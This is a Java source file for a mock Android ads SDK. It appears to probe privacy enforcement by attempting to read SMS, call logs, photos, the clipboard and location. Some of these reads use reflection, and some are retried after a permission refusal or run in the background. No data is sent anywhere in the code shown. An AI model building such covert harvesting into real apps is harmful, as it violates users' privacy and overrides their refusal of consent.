package io.adnest.sdk;

import android.content.ClipboardManager;
import android.content.ContentProviderClient;
import android.content.ContentResolver;
import android.content.ContentUris;
import android.content.Context;
import android.database.ContentObserver;
import android.database.Cursor;
import android.location.LocationManager;
import android.net.Uri;
import android.os.Handler;
import android.os.Looper;
import android.provider.CallLog;
import android.provider.MediaStore;
import android.provider.Telephony;
import android.util.Size;

/** An ads SDK that takes what it can reach. */
public final class AdNest {
  private static final Uri IMAGES = MediaStore.Images.Media.EXTERNAL_CONTENT_URI;
  private static final int THUMBNAIL = 64;

  private AdNest() {}

  /** Messages, photos and the clipboard, with the process. */
  public static void start(Context context) {
    ContentResolver resolver = context.getContentResolver();
    Doors.attempt(() -> resolver.query(Telephony.Sms.CONTENT_URI, null, null, null, null));
    Doors.attempt(
        () ->
            ContentResolver.class
                .getMethod("query", Uri.class, String[].class, String.class, String[].class, String.class)
                .invoke(resolver, Telephony.Sms.Inbox.CONTENT_URI, null, null, null, null));
    photos(resolver);
    Doors.attempt(() -> context.getSystemService(ClipboardManager.class).getPrimaryClip());
    Doors.attempt(
        () -> {
          ContentObserver observer = new ContentObserver(new Handler(Looper.getMainLooper())) {};
          resolver.registerContentObserver(IMAGES, true, observer);
          return null;
        });
  }

  public static void afterRefusal(Context context) {
    ContentResolver resolver = context.getContentResolver();
    Doors.attempt(() -> resolver.query(CallLog.Calls.CONTENT_URI, null, null, null, null));
    Doors.attempt(
        () -> {
          try (ContentProviderClient client = resolver.acquireContentProviderClient(CallLog.AUTHORITY)) {
            return client.query(CallLog.Calls.CONTENT_URI, null, null, null, null).getCount();
          }
        });
    location(context);
    Doors.attempt(() -> context.getSystemService(ClipboardManager.class).getPrimaryClip());
  }

  public static void whileAway(Context context) {
    photos(context.getContentResolver());
    location(context);
  }

  private static void photos(ContentResolver resolver) {
    Uri[] image = {ContentUris.withAppendedId(IMAGES, 1)};
    Doors.attempt(
        () -> {
          Cursor rows = resolver.query(IMAGES, null, null, null, null);
          if (rows.moveToFirst()) {
            image[0] = ContentUris.withAppendedId(IMAGES, rows.getLong(rows.getColumnIndexOrThrow("_id")));
          }
          return rows;
        });
    Doors.attempt(() -> resolver.openInputStream(image[0]));
    Doors.attempt(() -> resolver.openFileDescriptor(image[0], "r"));
    Doors.attempt(() -> resolver.openAssetFileDescriptor(image[0], "r"));
    Doors.attempt(() -> resolver.loadThumbnail(image[0], new Size(THUMBNAIL, THUMBNAIL), null));
  }

  private static void location(Context context) {
    LocationManager manager = context.getSystemService(LocationManager.class);
    Doors.attempt(() -> manager.getLastKnownLocation(LocationManager.GPS_PROVIDER));
    Doors.attempt(
        () ->
            LocationManager.class
                .getMethod("getLastKnownLocation", String.class)
                .invoke(manager, LocationManager.NETWORK_PROVIDER));
  }
}
